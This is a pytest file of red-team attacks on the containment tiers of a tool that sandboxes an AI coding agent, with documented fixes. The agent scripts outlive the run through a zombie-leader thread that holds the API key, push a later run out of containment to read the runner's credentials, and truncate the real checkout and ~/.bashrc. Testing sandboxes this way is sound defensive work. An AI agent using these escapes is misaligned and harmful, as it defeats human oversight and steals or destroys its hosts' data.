"""Red team 6's attacks on the tiers without a box: the container-job tier (the helper as root
without CAP_SYS_ADMIN: Landlock, the agent a user of its own) and tier 1b (a runner user
without sudo, user namespaces off). Briefed with README.md and docs/security.md only. Each test
asserts what those documents promise; each failed while its attack worked (before the fixes: a
zombie whose thread still runs counted as live and every count preceded by a kill, the chats
store opened again and never a reason to run the agent another way, truncation by path refused
below Landlock ABI 3)."""

from __future__ import annotations

import contextlib
import os
import shlex
import shutil
import signal
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from cursor_agent_action.agent.contain import landlock
from tests.support.attacks import cleanup_user, outputs_of, script, wait_for
from tests.support.box import CAPSH, Box, agent, as_runner, passable_box
from tests.support.box import seen as _seen
from tests.support.users import NO_USER_NAMESPACES, TEST_AGENT_USER, ensure_user

CONTAINER = pytest.mark.skipif(
    os.geteuid() != 0 or landlock.abi() < 1 or not CAPSH or not shutil.which("unshare"),
    reason="plays a container job (root, capsh, unshare) on a Landlock kernel")


def in_job_container(box: Box, body: str, *args: str) -> subprocess.CompletedProcess[str]:
    """The helper as root without CAP_SYS_ADMIN, in a job container as Docker makes it: its
    /sys/fs/cgroup read-only (played by an empty read-only tmpfs over it in a mount namespace
    of its own, made before the capability goes), so no cgroup can be made and the memory
    bound is per process, as the summary then says."""
    script = agent(box, body)
    helper = [sys.executable, "-I", "-m", "cursor_agent_action", "run", "--agent-bin",
              str(script), "--working-directory", str(box.workspace), "--prompt", "x",
              "--output-file", str(box.base / "outputs.txt"), "--summary-file",
              str(box.base / "summary.md"), "--timeout-minutes", "1", *args]
    dropped = shlex.join([CAPSH, "--drop=cap_sys_admin", "--", "-c", shlex.join(helper)])
    return subprocess.run(
        ["unshare", "--mount", "--propagation", "private", "/bin/sh", "-c",
         f"mount -t tmpfs -o ro none /sys/fs/cgroup && exec {dropped}"],
        env={**os.environ, "PATH": f"{Path(sys.executable).parent}:/usr/sbin:/usr/bin:/sbin:/bin"},
        capture_output=True, text=True, timeout=120, check=False)


@pytest.fixture
def box(monkeypatch: pytest.MonkeyPatch) -> Iterator[Box]:
    yield from passable_box(monkeypatch, "rt6")


LINGER = r"""
import ctypes, os, platform, sys, threading, time
seen = sys.argv[1]
os.setsid()
if os.fork():
    os._exit(0)
def later():
    time.sleep(8)  # past the agent's end, the reaper, the IPC clean-up and the step
    libc = ctypes.CDLL(None, use_errno=True)
    ident = libc.shmget(0, 4096, 0o1000 | 0o666)  # IPC_PRIVATE, IPC_CREAT: for the next run
    with open(os.path.join(seen, "alive"), "w") as handle:
        handle.write(f"{os.getpid()} {os.getuid()} {ident}")
    for _ in range(200):  # what a later step of the job writes into the checkout
        if os.path.exists("src/later.txt"):
            with open("src/later.txt") as source, open(os.path.join(seen, "stolen"), "w") as out:
                out.write(source.read())
            break
        time.sleep(0.1)
    time.sleep(30)
threading.Thread(target=later).start()
with open(os.path.join(seen, "pid"), "w") as handle:
    handle.write(str(os.getpid()))
# The thread group's leader ends alone (exit, not exit_group): /proc/PID/status says
# "Z (zombie)" while the other thread runs on.
ctypes.CDLL(None).syscall({"x86_64": 60, "aarch64": 93}[platform.machine()], 0)
"""


@CONTAINER
def test_rt6_container_a_leader_that_exits_alone_hides_a_live_thread_from_the_reaper(
    box: Box,
) -> None:
    """The container-job tier. What the agent leaves running is killed by its user id:
    reap.kill_all loops while reap._processes_of(uid) finds a live process, and that skips
    every pid whose /proc/PID/status says ``State: Z`` (red team 5's fix: zombies under a job
    container's init). A thread group whose leader ended with exit(2) (not exit_group) is
    shown as a zombie while its other threads run. The agent starts a setsid'ed python whose
    main thread starts a thread and ends alone: kill_all finds no live process, never sends a
    signal, and reports success; the thread runs on after the step, as the agent's user with
    the runner's network and CURSOR_API_KEY (in the agent's environment in this tier), and
    8 s later makes a System V segment after the IPC clean-up ran (left for the next run); a
    read-only run is shown the checkout in place, and the thread, still able to read it, reads
    what a later step of the job writes there.
    security.md, the container-job row: "nothing it starts outlives the run", "every System V
    IPC object its user made removed after the run". Where the lockdown can make a cgroup, its
    removal kills the cgroup's members and hides this; in a job container as Docker makes it
    /sys/fs/cgroup is read-only, no cgroup is made (the summary says "no cgroup could be
    made"), and nothing else kills the thread. Severity: high (a live process of the
    agent's, with the key and the network, outlives the step; the run says nothing). Fix: in
    _processes_of, count a pid as live when any of /proc/PID/task/*/stat is not Z (or skip the
    count and always kill(-1) as the uid once before counting); better, in kill_all send
    kill(-1) first and then wait for the count to drop; the same in tests' processes_of."""
    box.workspace.chmod(0o755)  # a checkout others may read: shown in place, read-only
    linger = script(box, "linger.py", LINGER)
    body = (f"/usr/bin/python3 -I {linger} $SEEN </dev/null >/dev/null 2>&1\n"
            "while [ ! -e $SEEN/pid ]; do sleep 0.1; done; id -u > $SEEN/uid")
    pid = -1
    try:
        done = in_job_container(box, body)
        pid = int(_seen(box, "pid") or -1)
        later = box.workspace / "src" / "later.txt"  # a later step of the job writes it
        later.write_text("a later step's secret\n")
        later.chmod(0o644)
        alive = wait_for(box.seen / "alive", 20)
        wait_for(box.seen / "stolen", 10)
        seen_alive = _seen(box, "alive")
    finally:
        if pid > 0:
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)  # the whole thread group
        for ident in _seen(box, "alive").split()[2:]:
            if ident.lstrip("-").isdigit() and int(ident) >= 0:
                subprocess.run(["ipcrm", "-m", ident], check=False, timeout=10,
                               capture_output=True)
    assert _seen(box, "uid"), done.stdout[-2000:] + done.stderr[-2000:]
    outputs = outputs_of(box, "outputs.txt")
    summary = " ".join((box.base / "summary.md").read_text().split())
    assert "no cgroup could be made" in summary, summary[-1500:]
    assert not alive, (
        f"conclusion {outputs.get('conclusion')}; a thread of the agent's (pid {pid}, uid and "
        f"segment: {seen_alive}) ran on after the run (its leader shows as a zombie) and "
        f"read what a later step wrote into the checkout: {_seen(box, 'stolen')!r}")


RUNNER_LANDLOCK = pytest.mark.skipif(
    os.geteuid() != 0 or landlock.abi() < 1,
    reason="plays a runner user (as root) on a Landlock kernel")


@RUNNER_LANDLOCK
def test_rt6_runner_a_chats_store_closed_by_one_run_makes_the_next_run_uncontained(
    box: Box, unprivileged: Path,
) -> None:
    """Tier 1b: three runs of the action in one job (two agent steps, or a follow-up step),
    the runner's own user. After every Landlock run the chats are kept in the helper's store
    ($RUNNER_TEMP/cursor-agent-action/agent-chats, masked, the runner's) and carried into the
    next run's home (home.make_home -> home.carry). Run 0's CLI keeps a chat, as the CLI
    does. Run 1's agent (prompt-injected, say) finds the store through the lockdown's command
    line (/proc/$PPID/cmdline names its spec) and closes the store's .cursor/chats to
    searching (chmod 0400: Landlock does not govern modes, and the store is the runner's).
    Run 1's own keep_chats cannot remove it (rmtree: EACCES, suppressed): it stays, and run 1
    succeeds. Run 2's lockdown lists it and carry's os.lstat of the chat inside raises
    PermissionError: an OSError in the set-up, written as a status that is not final, so
    isolation: auto (run.py) runs run 2's agent with no containment at all: it reads the
    runner's home (and could write GITHUB_ENV, .git/config...). security.md: "Once the agent
    may have run, nothing in the step runs it again with less containment ... falls back only
    when the box cannot be set up before the agent starts", and rt4's fix for the tree ("a
    checkout the program cannot list now fails the run ... no other way is tried"): the same
    reason, one directory over. Severity: high (a hostile run turns every later run in the
    job uncontained). Fix: carry must never raise (catch OSError per entry, as for the
    listing); make any error from what an earlier agent could touch (the chats store, the
    helper's state) final; better, never fall back to uncontained after a Landlock set-up
    failure of this tier; and keep the store out of the agent's reach (a directory it cannot
    name: not beside the spec whose path /proc/PPID/cmdline shows)."""
    user_name = f"{TEST_AGENT_USER}-ch"[:32]
    secret = box.home / "credentials.txt"
    secret.write_text("the runner's credential\n")
    secret.chmod(0o600)
    store = ('spec=$(tr "\\0" "\\n" < /proc/$PPID/cmdline | tail -n 1); '
             'store="$(dirname "$(dirname "$spec")")/agent-chats"; echo "$store" > $SEEN/store; ')
    runs = (
        # run 0: the CLI keeps a chat
        'mkdir -p "$HOME/.cursor/chats/ws/chat" && echo db > "$HOME/.cursor/chats/ws/chat/'
        'store.db" && echo kept > $SEEN/kept0',
        # run 1: the hostile agent closes the store's chats to searching
        store + 'chmod 0400 "$store/.cursor/chats" && echo closed > $SEEN/closed1',
        # run 2: any agent; what it can read
        f"id -u > $SEEN/uid2; cat {secret} > $SEEN/stolen2 2>/dev/null",
    )
    done: list[subprocess.CompletedProcess[str]] = []
    uid = -1
    try:
        for index, body in enumerate(runs):
            done.append(as_runner(unprivileged, box, user_name, "--summary-file",
                                  str(box.base / f"r{index}-summary.md"), body=body,
                                  wrap=[sys.executable, "-I", "-c", NO_USER_NAMESPACES],
                                  prefix=f"r{index}-"))
            uid = ensure_user(user_name).pw_uid
    finally:
        with contextlib.suppress(OSError):
            for place in box.base.rglob("agent-chats"):
                for path in [place, *place.rglob("*")]:
                    if path.is_dir() and not path.is_symlink():
                        path.chmod(0o700)
        if uid >= 0:
            cleanup_user("ch", uid)
    assert _seen(box, "kept0"), done[0].stdout[-1500:] + done[0].stderr[-1500:]
    assert _seen(box, "closed1"), (_seen(box, "store"), done[1].stderr[-1500:])
    log = " ".join((done[2].stdout + done[2].stderr).split())
    assert "the runner's credential" not in _seen(box, "stolen2"), (
        "run 2's agent ran uncontained and read the runner's home: "
        + log[log.find("could not be set up") - 200:][:700])
    summary = " ".join((box.base / "r2-summary.md").read_text().split()).replace("\\", "")
    assert "**Isolation:** landlock as the runner's own user" in summary  # contained, still


@RUNNER_LANDLOCK
def test_rt6_runner_below_abi_3_truncate_by_path_empties_the_real_checkout_and_the_runner_s_files(
    box: Box, unprivileged: Path,
) -> None:
    """Tier 1b on a kernel whose Landlock is ABI 1 or 2 (Linux 5.13 to 6.1: Ubuntu 22.04's
    5.15, Debian 12's 6.1), emulated by capping the helper venv's Landlock ABI at 2. Landlock
    governs truncate(2) by path only from ABI 3, and the seccomp filter does not refuse it, so
    the agent, the runner's own uid and so the owner of the checkout and of the runner's files,
    truncates any of them by path: a read-only run is copied there (inplace.MIN_ABI), but the
    real checkout is still named through the lockdown's command line, and so is RUNNER_TEMP
    (the file commands) and the runner's home, masked for reading and writing. The agent
    empties the real src/app.py and the runner's ~/.bashrc. The check after the run sees the
    size move and fails the run, but it can only put back mode, owner and times: the content
    is gone, and nothing outside the checkout is checked at all. security.md, tier 1b "what
    holds": "writes only to its copy, home and TMPDIR"; the Landlock paragraph: "write only its
    copy, home and TMPDIR". Severity: medium (destroys the checkout's and the runner's files,
    GITHUB_ENV/GITHUB_PATH included; no exfiltration). Fix: refuse truncate(2) (by path) in
    the Landlock tiers' seccomp filter where Landlock's ABI is below 3 (ftruncate needs a
    descriptor open for writing, which Landlock governs); or refuse this tier below ABI 3 as the
    runner's own user; and say it in the table."""
    module = next(unprivileged.glob("lib/python3*/site-packages/cursor_agent_action/agent/"
                                    "contain/landlock.py"))
    text = module.read_text()
    old = "    return max(int(version), 0)\n"
    assert old in text
    module.write_text(text.replace(old, "    return min(max(int(version), 0), 2)\n"))
    user_name = f"{TEST_AGENT_USER}-tr"[:32]
    bashrc = box.home / ".bashrc"
    bashrc.write_text("export PATH=$HOME/bin:$PATH\n")
    app = box.workspace / "src" / "app.py"
    before = app.read_bytes()
    body = ('spec=$(tr "\\0" "\\n" < /proc/$PPID/cmdline | tail -n 1); '
            'real="$(dirname "$spec")/../../../repo"; pwd > $SEEN/pwd; '
            # truncate(2) by path (coreutils' truncate opens the file for writing: refused)
            '/usr/bin/python3 -I -c "import os, sys; [os.truncate(p, 0) for p in sys.argv[1:]]" '
            f'"$real/src/app.py" {bashrc} && echo done > $SEEN/done')
    uid = -1
    try:
        done = as_runner(unprivileged, box, user_name, body=body,
                         wrap=[sys.executable, "-I", "-c", NO_USER_NAMESPACES])
        uid = ensure_user(user_name).pw_uid
    finally:
        if uid >= 0:
            cleanup_user("tr", uid)
    assert _seen(box, "pwd"), done.stdout[-1500:] + done.stderr[-1500:]
    assert _seen(box, "pwd").strip() != str(box.workspace), "shown in place: not the copy"
    outputs = outputs_of(box)
    assert (app.read_bytes(), bashrc.read_text()) == (before, "export PATH=$HOME/bin:$PATH\n"), (
        f"conclusion {outputs.get('conclusion')} (done: {_seen(box, 'done')!r}); the agent "
        f"truncated the real checkout's src/app.py ({app.read_bytes()!r}) and the runner's "
        f".bashrc ({bashrc.read_text()!r})")
